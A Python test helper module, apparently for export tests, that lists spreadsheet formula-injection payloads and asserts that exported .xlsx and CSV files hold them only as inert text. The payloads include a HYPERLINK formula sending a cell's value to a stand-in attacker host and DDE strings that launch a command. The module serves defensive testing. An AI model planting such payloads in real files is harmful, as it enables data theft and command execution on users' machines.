"""Formula payloads for the export tests, and checks that a sheet holds them as plain text."""

import csv
import io

from openpyxl import load_workbook

# What a line lead could type in a title: every character a spreadsheet starts a formula with.
FORMULES = [
    '=HYPERLINK("http://aanvaller.example/?d="&E2,"klik")',
    "+CMD|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://aanvaller.example")',  # full-width =
]


def formule(veld: str, nummer: int = 0) -> str:
    """A distinct payload per field, so a test can tell which field reached the sheet."""
    return f"{FORMULES[nummer % len(FORMULES)]}{veld}"


def xlsx_tekstcellen(inhoud: bytes) -> dict[str, set]:
    """Every cell of every sheet of an .xlsx: fails on a formula cell; returns the text values
    per sheet (each checked to be of data type ``s``)."""
    wb = load_workbook(io.BytesIO(inhoud))  # not read-only: data_type is as stored
    teksten = {}
    for ws in wb.worksheets:
        teksten[ws.title] = set()
        for rij in ws.iter_rows():
            for cel in rij:
                assert cel.data_type != "f", f"{ws.title}!{cel.coordinate}: formule {cel.value!r}"
                if isinstance(cel.value, str):
                    assert cel.data_type == "s"
                    teksten[ws.title].add(cel.value)
    return teksten


def csv_velden(tekst: str, scheiding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=scheiding))


def assert_csv_onschadelijk(rijen: list[list[str]]) -> None:
    """No field but a number starts with a character a spreadsheet reads as a formula."""
    for rij in rijen:
        for veld in rij:
            try:
                float(veld.replace(",", "."))
                continue  # a negative number stays a number
            except ValueError:
                pass
            assert veld[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20"), veld
